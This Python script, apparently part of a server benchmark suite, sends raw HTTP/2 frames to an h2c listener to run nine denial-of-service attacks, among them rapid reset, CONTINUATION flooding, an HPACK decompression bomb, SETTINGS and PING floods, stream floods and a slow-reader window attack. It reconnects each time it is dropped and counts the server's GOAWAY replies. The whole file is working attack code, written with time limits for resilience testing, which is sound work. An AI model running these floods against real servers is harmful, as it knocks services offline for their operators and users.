#!/usr/bin/env python3
"""bench/lib/h2attack.py - one HTTP/2 attack against an h2c listener, for a bounded time.

Usage: h2attack.py HOST PORT ATTACK SECONDS [AUTHORITY]

Sends raw frames (standard library only: the frames a real client would refuse to send) and, each
time the server closes the connection, opens a new one, as an attacker would. Prints one JSON line:
connections opened, frames written, GOAWAYs received by error code, and seconds run.

Attacks: rapid_reset, reset_forwarded, continuation, hpack_bomb, settings, ping, ping_noread,
streams, slow_reader. Every loop ends at SECONDS; every socket operation has a timeout.
"""

import json
import select
import socket
import struct
import sys
import time

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, RST, SETTINGS, PING, GOAWAY, WINDOW_UPDATE, CONTINUATION = 0, 1, 3, 4, 6, 7, 8, 9
END_STREAM, END_HEADERS = 0x1, 0x4


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def hpack_int(pattern, bits, value):
    top = (1 << bits) - 1
    if value < top:
        return bytes([pattern | value])
    out = [pattern | top]
    value -= top
    while value >= 128:
        out.append(value % 128 | 0x80)
        value //= 128
    return bytes(out + [value])


def hpack_str(s):
    return hpack_int(0, 7, len(s)) + s


def get_block(authority, path):
    """:method GET, :scheme http, :path, :authority (literals without indexing, no Huffman)."""
    return b"\x82\x86" + hpack_int(0, 4, 4) + hpack_str(path) + hpack_int(0, 4, 1) + hpack_str(authority)


class Conn:
    def __init__(self, host, port, settings=b""):
        self.sock = socket.create_connection((host, port), timeout=5)
        self.sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        self.buf = b""
        self.goaways = []
        self.closed = False
        self.send(PREFACE + frame(SETTINGS, 0, 0, settings))

    def send(self, data):
        """Writes all of data; False once the server has closed or stopped reading for 5 s."""
        try:
            self.sock.sendall(data)
            return True
        except OSError:
            self.closed = True
            return False

    def drain(self, wait=0.0):
        """Reads what has arrived (waiting at most `wait`), noting GOAWAYs and a close."""
        end = time.monotonic() + wait
        while not self.closed:
            left = max(0.0, end - time.monotonic())
            ready, _, _ = select.select([self.sock], [], [], left)
            if not ready:
                return
            try:
                chunk = self.sock.recv(1 << 16)
            except OSError:
                chunk = b""
            if not chunk:
                self.closed = True
                return
            self.buf += chunk
            while len(self.buf) >= 9:
                length = int.from_bytes(self.buf[:3], "big")
                if len(self.buf) < 9 + length:
                    break
                kind, payload = self.buf[3], self.buf[9 : 9 + length]
                self.buf = self.buf[9 + length :]
                if kind == GOAWAY and len(payload) >= 8:
                    self.goaways.append(struct.unpack(">I", payload[4:8])[0])
            if wait == 0.0:
                end = time.monotonic()

    def close(self):
        try:
            self.sock.close()
        except OSError:
            pass


def run(host, port, attack, seconds, authority):
    stop = time.monotonic() + seconds
    stats = {"attack": attack, "connections": 0, "frames": 0, "goaways": {}}
    block = get_block(authority.encode(), b"/5k.html")
    big = get_block(authority.encode(), b"/1m.bin")
    conn = None

    def finish():
        if conn is not None:
            conn.drain()
            for code in conn.goaways:
                stats["goaways"][str(code)] = stats["goaways"].get(str(code), 0) + 1
            conn.close()

    def fresh(settings=b""):
        nonlocal conn
        finish()
        conn = Conn(host, port, settings)
        stats["connections"] += 1
        return conn

    # The slow reader announces the largest stream window.
    settings = struct.pack(">HI", 4, 0x7FFFFFFF) if attack == "slow_reader" else b""
    next_id = 1
    c = fresh(settings)
    while time.monotonic() < stop:
        if c.closed:
            c, next_id = fresh(settings), 1
        if attack == "rapid_reset":
            batch = b""
            for _ in range(100):
                batch += frame(HEADERS, END_HEADERS | END_STREAM, next_id, block) + frame(RST, 0, next_id, b"\0\0\0\x08")
                next_id += 2
            c.send(batch)
            stats["frames"] += 200
            c.drain()
        elif attack == "reset_forwarded":
            # Streams reset once the gateway has had time to forward them.
            ids = list(range(next_id, next_id + 200, 2))
            next_id += 200
            c.send(b"".join(frame(HEADERS, END_HEADERS | END_STREAM, i, block) for i in ids))
            c.drain(0.02)
            c.send(b"".join(frame(RST, 0, i, b"\0\0\0\x08") for i in ids))
            stats["frames"] += 200
            c.drain()
        elif attack == "continuation":
            c.send(frame(HEADERS, END_STREAM, 1, block))
            chunk = frame(CONTINUATION, 0, 1, b"\x00\x03x-a\x01b" * 2000)
            while not c.closed and time.monotonic() < stop:
                if not c.send(chunk * 16):
                    break
                stats["frames"] += 16
                c.drain()
            c.closed = True
        elif attack == "hpack_bomb":
            bomb = block + b"\x40" + hpack_str(b"x-bomb") + hpack_str(b"a" * 4000) + bytes([0x80 | 62]) * 12000
            c.send(frame(HEADERS, END_STREAM, next_id, bomb[:16384]) + frame(CONTINUATION, END_HEADERS, next_id, bomb[16384:]))
            stats["frames"] += 2
            c.drain(0.05)
            c.closed = True
        elif attack in ("settings", "ping", "ping_noread"):
            if attack == "settings":
                one = frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 65535))
            else:
                one = frame(PING, 0, 0, b"flooding")
            c.send(one * 1000)
            stats["frames"] += 1000
            if attack != "ping_noread":
                c.drain()
            else:
                # Reads nothing until the server closes; select tells when it has.
                ready, _, _ = select.select([c.sock], [], [], 0)
                if ready:
                    c.drain()
        elif attack == "streams":
            # Twice the concurrency limit at once, on one connection after another.
            c.send(b"".join(frame(HEADERS, END_HEADERS | END_STREAM, next_id + 2 * i, block) for i in range(512)))
            next_id += 1024
            stats["frames"] += 512
            c.drain(0.2)
            c.closed = True
        elif attack == "slow_reader":
            # Big windows, many streams, nothing read: the gateway holds what it lets itself buffer.
            c.send(frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", 0x7FFFFFFF - 65535)))
            c.send(b"".join(frame(HEADERS, END_HEADERS | END_STREAM, 1 + 2 * i, big) for i in range(256)))
            stats["frames"] += 257
            time.sleep(max(0.0, min(10.0, stop - time.monotonic())))
            c.closed = True
        else:
            raise SystemExit(f"unknown attack {attack}")
    finish()
    stats["seconds"] = seconds
    print(json.dumps(stats))


if __name__ == "__main__":
    if len(sys.argv) < 5:
        raise SystemExit(__doc__)
    run(sys.argv[1], int(sys.argv[2]), sys.argv[3], float(sys.argv[4]), sys.argv[5] if len(sys.argv) > 5 else "bench")
